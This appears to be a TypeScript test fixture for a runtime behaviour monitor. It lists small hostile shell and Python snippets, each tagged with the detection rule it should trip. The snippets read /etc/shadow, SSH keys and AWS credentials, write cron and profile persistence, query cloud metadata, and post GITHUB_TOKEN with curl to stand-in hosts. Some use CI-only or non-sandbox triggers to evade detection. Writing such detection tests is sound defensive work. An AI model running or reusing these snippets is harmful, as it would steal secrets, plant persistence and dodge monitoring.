// Single things that an honest program does not do. Each is added to the end of a script of shell commands that did its
// real work, and is all that is to be told of.
import type { RuleId } from '../../src/rules.ts';
import type { EverydayProgram } from '../kit/everyday/row.ts';

export interface DeviatingDeed {
  readonly name: string;
  /** Shell commands, which end with 0 whether or not they got what they wanted. */
  readonly script: string;
  /** A program that it is done with, which the honest script starts too. */
  readonly by?: string;
  readonly category?: EverydayProgram['category'];
  readonly rule: RuleId;
}

/** Opening and more by the shell itself, so that no other program is started for it. */
function quietly(command: string): string {
  return `( ${command} ) 2> /dev/null || true`;
}

function python(text: string): string {
  return `python3 - <<'DEED' > /dev/null 2>&1 || true\n${text}\nDEED`;
}

const call = (number: number, ...args: readonly (number | string)[]) =>
  python(`import ctypes\nctypes.CDLL(None).syscall(${[number, ...args].join(', ')})`);

const FILES: readonly DeviatingDeed[] = [
  { name: 'reads the passwords', script: quietly(': < /etc/shadow'), rule: 'runtime/undeclared-read' },
  { name: 'reads a key', script: quietly(': < "$HOME/.ssh/id_rsa"'), rule: 'runtime/undeclared-read' },
  { name: 'reads what lies beside it', script: quietly(': < /srv/customers.csv'), rule: 'runtime/undeclared-read' },
  {
    name: 'reads another folder by a way round',
    script: quietly('cd /usr/lib && : < ../../root/.netrc'),
    rule: 'runtime/undeclared-read',
  },
  { name: 'writes to the system', script: quietly(': > /etc/cron.d/task'), rule: 'runtime/undeclared-write' },
  { name: 'stays in the home', script: quietly('echo run >> "$HOME/.profile"'), rule: 'runtime/undeclared-write' },
  { name: 'changes itself', script: quietly('echo more >> "$TOOL/more.sh"'), rule: 'runtime/undeclared-write' },
  { name: 'makes a folder in the home', script: 'mkdir "$HOME/.config"', rule: 'runtime/undeclared-write' },
  {
    name: 'goes home and makes a folder there',
    script: 'cd "$HOME" && mkdir -p .local/bin',
    rule: 'runtime/undeclared-write',
  },
  {
    name: 'writes to the home in a child of a child',
    script: quietly('( ( ( echo run > "$HOME/.xinitrc" ) ) ) &\nwait'),
    rule: 'runtime/undeclared-write',
  },
];

const PROGRAMS: readonly DeviatingDeed[] = [
  { name: 'starts another program', script: '/usr/bin/id > /dev/null', rule: 'runtime/undeclared-exec' },
  {
    name: 'starts another program by a relative path',
    script: '( cd /usr/bin && ./users > /dev/null ) || true',
    rule: 'runtime/undeclared-exec',
  },
  {
    name: 'starts another program in the background',
    script: '/usr/bin/tty > /dev/null || true &\nwait',
    rule: 'runtime/undeclared-exec',
  },
  {
    name: 'starts another program in its own stead',
    script: '( exec /usr/bin/logname ) > /dev/null 2>&1 || true',
    rule: 'runtime/undeclared-exec',
  },
];

const NETWORK: readonly DeviatingDeed[] = [
  {
    name: 'goes to another host',
    script: 'curl -sS -m 3 https://collect.example.net/ 2> /dev/null || true',
    by: 'curl',
    rule: 'runtime/undeclared-host',
  },
  {
    name: 'carries data in a lookup',
    script: 'curl -sS -m 3 https://4d61726b.data.example.org/ 2> /dev/null || true',
    by: 'curl',
    rule: 'runtime/undeclared-host',
  },
  {
    name: 'goes to the machine’s metadata',
    script: 'curl -sS -m 3 http://169.254.169.254/latest/ 2> /dev/null || true',
    by: 'curl',
    rule: 'runtime/raw-address',
  },
  {
    name: 'goes to an address by IPv6',
    script: "curl -sS -m 3 'https://[2001:db8::1]/' 2> /dev/null || true",
    by: 'curl',
    rule: 'runtime/raw-address',
  },
  {
    name: 'goes to another port',
    script: 'curl -sS -m 3 https://api.example.com:8443/ 2> /dev/null || true',
    by: 'curl',
    rule: 'runtime/undeclared-port',
  },
  {
    name: 'asks its host for another one',
    script: 'curl -sS -m 3 -H "Host: admin.example.net" https://api.example.com/greeting > /dev/null || true',
    by: 'curl',
    rule: 'runtime/name-mismatch',
  },
  {
    name: 'sends a packet past the resolver',
    script: python(
      'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x" * 20, ("8.8.8.8", 53))',
    ),
    by: 'python3',
    category: 'web-client',
    rule: 'runtime/raw-address',
  },
  {
    name: 'speaks something else to its host',
    script: python(
      'import socket\ns = socket.create_connection(("api.example.com", 443), 3)\ns.sendall(b"SSH-2.0-x\\r\\n")\ns.settimeout(3)\ns.recv(1)',
    ),
    by: 'python3',
    category: 'web-client',
    rule: 'runtime/unknown-protocol',
  },
  {
    name: 'goes for the container engine',
    script: python('import socket\nsocket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")'),
    by: 'python3',
    category: 'web-client',
    rule: 'runtime/undeclared-socket',
  },
  {
    name: 'listens on another port',
    script: python('import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 9090))\ns.listen()'),
    by: 'python3',
    category: 'web-server',
    rule: 'runtime/undeclared-listen',
  },
];

/** Numbers of x86-64. */
const SYSTEM_CALLS: readonly DeviatingDeed[] = (
  [
    ['traces', call(101, 0)],
    ['mounts', call(165, '"none"', '"/tmp"', '"tmpfs"', 0, 0)],
    ['makes namespaces', call(272, 0x10000000)],
    ['looks for keys', call(250, 0, -3, 0)],
    ['loads a program into the kernel', call(321, 0, 0, 0)],
    ['opens by a handle', call(304, -100, 0, 0)],
    ['reads another process', call(310, 1, 0, 0, 0, 0, 0)],
    ['counts what the machine does', call(298, 0, 0, -1, -1, 0)],
  ] as const
).map(([what, script]) => ({ name: what, script, by: 'python3', rule: 'runtime/undeclared-syscall' }));

const WAITING: readonly DeviatingDeed[] = [
  {
    name: 'waits for a CI service',
    script: `if [ -n "\${CI-}" ]; then ${quietly(': < /etc/shadow')}; fi`,
    rule: 'runtime/undeclared-read',
  },
  {
    name: 'waits for another machine',
    script: `read -r name < /proc/sys/kernel/hostname; if [ "$name" != sandbox ]; then ${quietly(': > /etc/cron.d/task')}; fi`,
    rule: 'runtime/undeclared-write',
  },
  {
    name: 'waits for a time zone',
    script: `if [ -n "\${TZ-}" ]; then ${quietly(': < /etc/shadow')}; fi`,
    rule: 'runtime/undeclared-read',
  },
  {
    name: 'waits for a key',
    script: 'if [ -e "$HOME/.aws/credentials" ]; then read -r line < "$HOME/.aws/credentials"; fi',
    rule: 'runtime/canary-leak',
  },
  {
    name: 'waits for a secret, and sends it to its own host',
    script:
      'if [ -n "${GITHUB_TOKEN-}" ]; then curl -sS -m 3 -d "$GITHUB_TOKEN" https://api.example.com/greeting > /dev/null || true; fi',
    by: 'curl',
    rule: 'runtime/canary-leak',
  },
];

const LIMITS: readonly DeviatingDeed[] = [
  {
    name: 'takes more memory than it may',
    script: python('b"x" * (4 << 30)'),
    by: 'python3',
    rule: 'runtime/memory-limit',
  },
  { name: 'never ends', script: 'while :; do read -r line < /dev/zero || true; done', rule: 'runtime/timeout' },
  { name: 'says that it failed', script: 'exit 4', rule: 'runtime/unexpected-exit' },
];

export const DEEDS: readonly DeviatingDeed[] = [
  ...[...FILES, ...PROGRAMS, ...NETWORK, ...SYSTEM_CALLS, ...WAITING, ...LIMITS],
];
